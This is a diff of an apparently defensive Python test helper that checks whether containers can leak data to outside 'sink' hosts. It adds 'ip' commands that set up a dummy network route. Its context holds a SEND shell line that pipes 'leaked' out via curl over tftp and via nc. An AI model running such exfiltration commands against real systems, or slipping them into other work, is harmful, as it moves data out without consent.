@@ -26,6 +26,15 @@ SEND = f"curl -s -m 1 tftp://{plan.SINK4}:4444/leaked; echo leaked | nc -w 1 {pl
 """A shell's words that send to sinks, as a datagram and over TCP."""
 
 
+NOWHERE = (
+    "ip link add nowhere type bridge && ip address add 192.0.0.2/32 dev nowhere && "
+    "ip link set nowhere up && ip route add default dev nowhere"
+)
+"""As the page on containers has it: what a container without a network needs for programs to send at all."""
+NOWHERE6 = "ip address add 100::2/128 dev nowhere nodad && ip -6 route add default dev nowhere"
+"""As the page has it for IPv6, besides."""
+
+
 def show_leak(internet: Internet, docker: Containers, *command: str) -> None:
     """Shows that :data:`SEND`, of which the command is made, reaches both sinks from a container that nobody guards."""
     free = docker.docker("run", "--detach", "--cap-drop", "ALL", IMAGE, *command)
